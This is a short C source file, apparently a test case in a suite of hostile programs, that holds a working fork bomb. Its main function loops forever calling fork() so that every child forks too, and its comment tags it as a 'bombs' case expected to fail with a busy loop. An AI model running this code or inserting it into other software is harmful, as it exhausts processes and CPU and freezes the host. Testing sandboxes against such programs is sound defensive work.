/* Forks for ever, and so does every child.
 *
 * @row bombs
 * @fails busy-loop
 * @says fork bomb
 */
#include "attack.h"

int main(void)
{
    for (;;)
        fork();
}
